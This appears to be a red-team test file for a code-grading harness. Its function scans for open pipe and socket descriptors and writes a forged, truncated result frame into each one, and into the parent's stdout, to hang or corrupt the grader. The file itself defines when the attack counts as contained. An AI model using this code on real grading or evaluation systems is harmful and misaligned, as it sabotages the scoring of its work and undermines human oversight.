# RED-TEAM ATTACK (issue 9): start a frame and never finish it.
# Route: write the 5-byte head of a 'C' (case result) frame that announces 1000 bytes, then 10 bytes
#   of it, then carry on as usual: every later frame of the child is read as the rest of the
#   first, and the reader must not wait for bytes that never come.
# Contained when: grading does not hang, initialize_parameters scores 0, and every other function of
#   this submission (correct) and the next submission are graded exactly as without the attack.
# attacked: initialize_parameters
# run: late
import json
import os
import stat
import struct
import sys

FORGED = []


def _frame(kind, payload):
    """Today's framing: a kind byte, a 4-byte big-endian length, the payload."""
    return kind + struct.pack(">I", len(payload)) + payload


def _message(header, *buffers):
    """Today's message: a 4-byte header length, a JSON header, then each buffer with its length."""
    raw = json.dumps(header, separators=(",", ":")).encode() if not isinstance(header, bytes) else header
    return struct.pack(">I", len(raw)) + raw + b"".join(struct.pack(">I", len(b)) + b for b in buffers)


def _pipes(posix):
    """Every descriptor that is a pipe or a socket: one of them carries results to the grader."""
    found = []
    for fd in range(3, 1024):
        try:
            mode = posix.fstat(fd).st_mode
        except OSError:
            continue
        if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
            found.append(fd)
    return found


def _send(data, also_parent=False):
    """Write raw bytes into every channel there is (and, if asked, the parent's own output)."""
    posix = sys.modules.get("posix") or __import__("posix")
    targets = _pipes(posix)
    for fd in targets:
        try:
            view = memoryview(data)
            while view:
                view = view[posix.write(fd, view):]
        except OSError:
            pass
    if also_parent:
        try:
            with open("/proc/%d/fd/1" % os.getppid(), "wb") as out:
                out.write(data)
        except Exception:
            pass


def initialize_parameters(n_x, n_h, n_y):
    if not FORGED:
        FORGED.append(1)
        _send(b"C" + struct.pack(">I", 1000) + b"0123456789")
    raise RuntimeError("left a frame unfinished")


# __HONEST_REST__
